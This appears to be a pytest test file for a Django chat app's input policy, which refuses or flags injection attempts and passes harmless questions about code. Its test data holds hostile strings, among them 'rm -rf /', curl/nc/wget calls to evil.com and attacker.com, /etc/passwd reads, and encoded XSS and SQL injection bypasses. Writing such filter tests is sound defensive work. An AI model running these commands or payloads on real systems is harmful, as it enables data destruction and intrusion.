"""What the input policy refuses, flags and lets pass, and how it says so."""

from __future__ import annotations

import pytest
from django.contrib.auth.models import User

from chat import input_policy
from chat.models import Message, PolicyMode, PolicyRule
from chat.policy import modes
from chat.policy.judging import RULES, judge
from chat.protocol import BadFrame
from chat.signals import reply_started
from providers.aichat import LIVE
from sasha.testing import Socket, text_of

# The founding plan's own list, with the rule that must refuse each.
PLAN = {
    "test; rm -rf /": "command_injection",
    "test && curl evil.com": "command_injection",
    "test | nc attacker.com 1234": "command_injection",
    "test $(wget evil.com)": "command_injection",
    "test `whoami`": "command_injection",
    "<script>alert(1)</script>": "script_injection",
    "javascript:alert(1)": "script_injection",
    "<img src=x onerror=alert(1)>": "script_injection",
    "../../../etc/passwd": "path_traversal",
    "..\\..\\windows\\system32": "path_traversal",
    "'; DROP TABLE users; --": "sql_injection",
    "1 OR 1=1": "sql_injection",
    "x" * 100_000: "too_long",
    "a bell \a in the middle": "control_characters",
}
DISGUISED = {
    "%3Cscript%3Ealert(1)%3C/script%3E": "script_injection",
    "%253Cscript%253Ealert(1)": "script_injection",
    "&lt;script&gt;alert(1)&lt;/script&gt;": "script_injection",
    "\\u003cscript\\u003ealert(1)": "script_injection",
    "\\x3cscript\\x3ealert(1)": "script_injection",
    "＜ｓｃｒｉｐｔ＞alert(1)": "script_injection",
    "<scr\u200bipt>alert(1)": "script_injection",
    "<ScRiPt>alert(1)": "script_injection",
    "java\nscript:alert(1)": "script_injection",
    "1/**/oR/**/1=1": "sql_injection",
    "1'+or+'1'='1": "sql_injection",
    "..%c0%af..%c0%af..%c0%afetc/passwd": "path_traversal",
    "..\u2215..\u2215..\u2215etc\u2215passwd": "path_traversal",
    "test;\u202ecat${IFS}/etc/passwd": "command_injection",
    "test; c'a't /etc/passwd": "command_injection",
    "cd /tmp && ls && rm -rf /": "command_injection",
    "cd /tmp && sudo rm -rf /": "command_injection",
}
HONEST = [
    "What does `rm -rf /` do?",
    "Explain '; DROP TABLE users; -- to a beginner",
    "Why is <script>alert(1)</script> dangerous?",
    "למה <script>alert(1)</script> מסוכן?",
    "为什么 <script>alert(1)</script> 很危险？",
    "How do I run cd foo && make install on Windows?",
    "cd build && cmake .. && make -j4",
    "cd ../../src && ls -la",
    "`ls` vs `dir`",
    "`test; rm -rf /`",
    "```\ntest; rm -rf /\n```",
    "> test; rm -rf /\n\nWho said that?",
    "Does this work?\n\n    test; rm -rf /\n",
    "“'; DROP TABLE users; --”",
    "1 or 2",
    "select all from the list",
    "drop the table",
    "$(document).ready",
    "thanks ;-)",
    "SELECT * FROM users WHERE name = 'Bob' OR 1=1",
    # Commands that are only named: in a table, a title, a list, between back-ticks, in somebody's own script.
    "How do I make a table with columns name | id | date",
    "Parse a CSV with header name;id;date",
    "Columns: id | title | last | date",
    "What is the difference between reverb & echo pedals",
    "What are the best Xbox & PS games",
    "Draw a house & tree",
    "Qui sont Tic & Tac",
    "War & peace; history & groups",
    "Rise & shine; sleep 8 hours",
    "What should I use; curl or wget",
    "Python `type` function",
    "JavaScript `find` method",
    "HTML `dir` attribute",
    "HTML `id` attribute",
    "SQL `set` syntax",
    "`curl` flags",
    "while true; do date; sleep 1; done",
    "mkdir foo && cd foo && touch bar.txt",
    "docker run --rm -v $(pwd):/app node npm test",
    "ls -la | awk '{print $5}'",
    'if test -n "$a" && test -d "$b"; then',
    """name=$(echo "$1" | sed 's/a/b/')""",
    'path=`cat "$file"`',
    # Arithmetic, grammar, spreadsheets, and somebody's own query or code.
    "Solve 2x + y = 7 and 10 = 4x - y",
    "Find x where 12 = 3x",
    "Compare plans 1 and 2 -- pros and cons",
    "Is this 'art' or not",
    "Say 'fewer' and not 'less'",
    "'he' or 'she' = pronoun",
    "'gato' -- Spanish",
    'Convert to Google Sheets: =SUBSTITUTE(A1,CHAR(10)," ")',
    '=IF(NOW()>B2,"late","ok")',
    "WHERE status IN ('open', 'new') AND owner = 5",
    "and status = 'paid' or status = 'open'",
    'curs.execute("select x from simple")',
    # Types, headers, titles, React, and files of somebody's own project.
    "Convert List<Object> to String",
    "#include <set> not found",
    "<iframe> alternatives",
    "JavaScript: map() vs forEach()",
    "JavaScript: async/await example",
    'JavaScript: "use strict"',
    "<Button onPress={() => go()} />",
    "<select onchange={handle}>",
    '<link rel="stylesheet" href="style.css">',
    '<meta http-equiv="Content-type" content="text/html; charset=utf-8">',
    "require('../../../config')",
    "cp ../../../a.txt .",
    "file:///C:/Users/me/index.html",
]
# What the shapes of such texts are near to.
NEAR = {
    "127.0.0.1 & tree": "command_injection",
    "test & ps aux": "command_injection",
    "test & curl http://evil.com": "command_injection",
    "test & tree & dir": "command_injection",
    "what is my name; id": "command_injection",
    "1|id|1": "command_injection",
    "test;id;whoami": "command_injection",
    "name | tree | id\n; cat /etc/passwd": "command_injection",
    "test; timeout 5 curl evil.com": "command_injection",
    "for f in *; do date; whoami; done": "command_injection",
    "test $(pwd)": "command_injection",
    "name=$(id)": "command_injection",
    'name=$(echo "$1"); cat /etc/passwd': "command_injection",
    "hello `whoami` world": "command_injection",
    "test `id`": "command_injection",
    "1 or 1 = 1": "sql_injection",
    "1 or 1=1.0": "sql_injection",
    "id=1 or 1--": "sql_injection",
    "' or not false--": "sql_injection",
    "' or user like 'a": "sql_injection",
    "O'Brien'--": "sql_injection",
    "it's me' or name like '%": "sql_injection",
    "1 and if(now()=sysdate(),1,0)": "sql_injection",
    "'+char(65)+'": "sql_injection",
    "<object data=x.swf>": "script_injection",
    "<iframe>alert(1)</iframe>": "script_injection",
    "javascript: alert(1)": "script_injection",
    "javascript: window.onerror = alert; throw XSS": "script_injection",
    "javascript: (function(){alert(1)})()": "script_injection",
    "<Button onPress={() => alert(1)} />": "script_injection",
    "<img src=x onerror={alert(1)}>": "script_injection",
    "from '../../../etc/passwd'": "path_traversal",
    "require('../../../x'); ../../../y": "path_traversal",
    "file:///etc/passwd": "path_traversal",
}


@pytest.mark.parametrize(
    ("text", "rule"), [*PLAN.items(), *DISGUISED.items(), *NEAR.items()], ids=lambda text: repr(text[:40])
)
def test_a_bare_attack_is_refused_by_its_rule(text, rule):
    assert rule in [hit.rule for hit in judge(text)]
    with pytest.raises(BadFrame) as refused:
        input_policy.check(text)
    assert refused.value.rule == rule
    assert refused.value.code == ("too_long" if rule == "too_long" else "refused")


@pytest.mark.parametrize("text", HONEST)
def test_quoted_code_and_talk_about_an_attack_pass(text):
    assert list(judge(text)) == []


def test_a_sentence_does_not_carry_a_command_in():
    assert [hit.rule for hit in judge("What is the weather in Paris today; rm -rf /")] == ["command_injection"]


def test_the_refusal_says_how_to_ask_it_anyway():
    with pytest.raises(BadFrame) as refused:
        input_policy.check("test; rm -rf /")
    assert "code block" in refused.value.sentence
    assert input_policy.check("```\ntest; rm -rf /\n```") == ()


@pytest.fixture
def _own_modes(monkeypatch):
    monkeypatch.setattr(modes, "_modes", {})
    monkeypatch.setattr(modes, "_hits", type(modes._hits)())


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("_own_modes")
async def test_a_rule_does_what_the_admin_chose_and_counts():
    await modes.keep_up()
    await PolicyRule.objects.acreate(name="sql_injection", mode=PolicyMode.FLAG)
    await PolicyRule.objects.acreate(name="path_traversal", mode=PolicyMode.OFF)
    with pytest.raises(BadFrame):
        input_policy.check("1 OR 1=1")
    await modes.keep_up()
    assert input_policy.check("1 OR 1=1") == ("sql_injection",)
    assert input_policy.check("../../../etc/passwd") == ()
    await modes.keep_up()
    row = await PolicyRule.objects.aget(pk="sql_injection")
    assert (row.mode, row.refused, row.flagged) == ("flag", 1, 1)
    assert row.last_hit_at is not None
    assert not modes._hits


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("text", [text for text in PLAN if len(text) < 1000])
async def test_the_first_frame_for_an_attack_is_an_error_and_nothing_is_stored_or_started(site, text):
    async with Socket("s") as socket:
        await socket.send(message=text, clientId="c1")
        error = await socket.receive()
        assert (error["type"], error["code"], error["rule"]) == ("error", "refused", PLAN[text])
        assert error["clientId"] == "c1"
        assert not await Message.objects.aexists()
        assert not LIVE
        assert text_of(await socket.say(f"What does {text.replace(chr(7), '')} do?", model="sim:sim-n5"))


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("_own_modes")
async def test_a_flag_goes_along_with_what_is_stored(site):
    await PolicyRule.objects.acreate(name="sql_injection", mode=PolicyMode.FLAG)
    await modes.keep_up()
    stored = []
    reply_started.connect(lambda question, **_: stored.append(question.flags), weak=False, dispatch_uid="flags")
    try:
        async with Socket("s") as socket:
            assert text_of(await socket.say("1 OR 1=1", model="sim:sim-n5"))
    finally:
        reply_started.disconnect(dispatch_uid="flags")
    assert stored == [("sql_injection",)]


ADMIN = "/admin/chat/policyrule/"


@pytest.fixture
def admin_user(db):
    return User.objects.create_user("ada", is_staff=True, is_superuser=True)


def test_the_admin_lists_every_rule_and_changes_only_its_mode(admin_client):
    assert admin_client.get(ADMIN).status_code == 200
    assert set(PolicyRule.objects.values_list("name", flat=True)) == set(RULES)
    PolicyRule.objects.update(refused=7)
    names = sorted(RULES)
    form = {"form-TOTAL_FORMS": len(names), "form-INITIAL_FORMS": len(names), "_save": "Save"}
    for at, name in enumerate(names):
        form |= {f"form-{at}-name": name, f"form-{at}-mode": "off" if name == "too_long" else "refuse"}
    admin_client.post(ADMIN, form)
    row = PolicyRule.objects.get(pk="too_long")
    assert (row.mode, row.refused) == ("off", 7)


def test_the_admin_tries_a_text_without_sending_it(admin_client):
    page = admin_client.post(f"{ADMIN}try/", {"text": "%3Cscript%3Ealert(1)"}).content.decode()
    assert "script_injection: refused" in page
    assert "<mark>&lt;script</mark>" in page
    assert "Accepted" in admin_client.post(f"{ADMIN}try/", {"text": "What is <b>?"}).content.decode()


@pytest.mark.django_db
def test_staff_without_permission_see_no_policy(client):
    client.force_login(User.objects.create_user("stella", is_staff=True))
    assert {client.get(page).status_code for page in (ADMIN, f"{ADMIN}try/")} == {403}
